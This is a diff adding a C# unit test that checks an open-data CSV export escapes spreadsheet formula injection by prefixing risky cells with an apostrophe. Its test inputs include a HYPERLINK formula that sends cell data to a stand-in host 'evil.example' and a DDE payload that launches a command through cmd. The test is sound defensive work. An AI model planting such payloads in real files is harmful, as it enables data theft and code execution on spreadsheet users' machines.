@@ -129,6 +129,30 @@ public sealed class LessonsTests(DiscussionNode lab)
     }
 
     [Fact]
+    public async Task Open_data_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe()
+    {
+        var request = Lesson("=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")", "+1+cmd|' /C calc'!A0") with
+        {
+            Tried = "-2+3",
+            Happened = "@SUM(A1:A9)",
+            Differently = "\t=1+1",
+        };
+        var lesson = await PublishAsync(request);
+        using var anonymous = await lab.As("anonymous");
+        var text = await anonymous.GetStringAsync(new Uri("api/open-data/lessons.csv", UriKind.Relative), Ct);
+        var row = Assert.Single(text.Split('\n'), l => l.StartsWith(lesson.Summary.Id, StringComparison.Ordinal));
+
+        Assert.Contains("\"'=HYPERLINK(", row, StringComparison.Ordinal);
+        Assert.Contains("'+1+cmd", row, StringComparison.Ordinal);
+        Assert.Contains("'-2+3", row, StringComparison.Ordinal);
+        Assert.Contains("'@SUM(A1:A9)", row, StringComparison.Ordinal);
+        foreach (var start in new[] { ",=", ",+", ",-", ",@", ",\t", ",\"=", ",\"+", ",\"-", ",\"@", ",\"\t" })
+        {
+            Assert.DoesNotContain(start, row, StringComparison.Ordinal);
+        }
+    }
+
+    [Fact]
     public async Task Public_lessons_are_open_data_as_json_and_csv_and_the_index_rebuilds_from_the_stored_lessons()
     {
         var lesson = await PublishAsync(Lesson("Compost in courtyards, \"shared\"", "Line one,\nline two with a comma."));
